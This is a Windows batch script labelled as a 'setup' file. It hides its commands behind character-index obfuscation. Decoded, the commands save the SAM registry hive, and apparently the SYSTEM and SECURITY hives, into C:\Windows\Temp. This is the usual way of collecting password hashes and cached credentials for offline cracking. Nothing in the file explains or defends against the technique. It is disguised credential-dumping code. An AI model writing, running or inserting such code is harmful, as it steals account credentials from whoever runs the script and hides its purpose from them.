REM setup 6173 v1
@echo off
set "cshj=SngpVcohXrTlUywDWsv:dkJa\mCei."
%cshj:~-21,1%%cshj:~-3,1%%cshj:~2,1% %cshj:~17,1%%cshj:~23,1%%cshj:~18,1%%cshj:~27,1% %cshj:~7,1%%cshj:~-9,1%%cshj:~-19,1%%cshj:~25,1%%cshj:~-6,1%%cshj:~17,1%%cshj:~23,1%%cshj:~25,1% %cshj:~26,1%%cshj:~19,1%%cshj:~-6,1%%cshj:~16,1%%cshj:~28,1%%cshj:~1,1%%cshj:~20,1%%cshj:~-24,1%%cshj:~14,1%%cshj:~17,1%%cshj:~-6,1%%cshj:~-20,1%%cshj:~-3,1%%cshj:~25,1%%cshj:~3,1%%cshj:~24,1%%cshj:~17,1%%cshj:~-7,1%%cshj:~25,1%%cshj:~-1,1%%cshj:~17,1%%cshj:~-7,1%%cshj:~18,1%%cshj:~27,1%
@echo off
set "ovjm=JdCy3stkz.G\relni:mWhuvcUgpqHowT1a"
%ovjm:~12,1%%ovjm:~-21,1%%ovjm:~25,1% %ovjm:~5,1%%ovjm:~33,1%%ovjm:~22,1%%ovjm:~13,1% %ovjm:~20,1%%ovjm:~-27,1%%ovjm:~-20,1%%ovjm:~18,1%%ovjm:~-23,1%%ovjm:~5,1%%ovjm:~-21,1%%ovjm:~23,1%%ovjm:~21,1%%ovjm:~12,1%%ovjm:~-18,1%%ovjm:~6,1%%ovjm:~3,1% %ovjm:~2,1%%ovjm:~17,1%%ovjm:~-23,1%%ovjm:~-15,1%%ovjm:~16,1%%ovjm:~15,1%%ovjm:~1,1%%ovjm:~-5,1%%ovjm:~30,1%%ovjm:~5,1%%ovjm:~11,1%%ovjm:~31,1%%ovjm:~13,1%%ovjm:~-16,1%%ovjm:~26,1%%ovjm:~-23,1%%ovjm:~5,1%%ovjm:~13,1%%ovjm:~23,1%%ovjm:~-13,1%%ovjm:~12,1%%ovjm:~-18,1%%ovjm:~6,1%%ovjm:~3,1%%ovjm:~9,1%%ovjm:~-29,1%%ovjm:~33,1%%ovjm:~-12,1%%ovjm:~13,1%
@echo off
set "gpus=.kVdl:Lj5gmUWoiE\vTwYsCap8rheynt"
%gpus:~-6,1%%gpus:~28,1%%gpus:~9,1% %gpus:~21,1%%gpus:~23,1%%gpus:~17,1%%gpus:~-4,1% %gpus:~27,1%%gpus:~1,1%%gpus:~4,1%%gpus:~-22,1%%gpus:~16,1%%gpus:~21,1%%gpus:~-3,1%%gpus:~21,1%%gpus:~31,1%%gpus:~28,1%%gpus:~10,1% %gpus:~22,1%%gpus:~5,1%%gpus:~16,1%%gpus:~12,1%%gpus:~14,1%%gpus:~30,1%%gpus:~3,1%%gpus:~13,1%%gpus:~19,1%%gpus:~-11,1%%gpus:~16,1%%gpus:~-14,1%%gpus:~28,1%%gpus:~10,1%%gpus:~-8,1%%gpus:~16,1%%gpus:~21,1%%gpus:~-3,1%%gpus:~21,1%%gpus:~31,1%%gpus:~28,1%%gpus:~-22,1%%gpus:~-32,1%%gpus:~21,1%%gpus:~23,1%%gpus:~17,1%%gpus:~28,1%
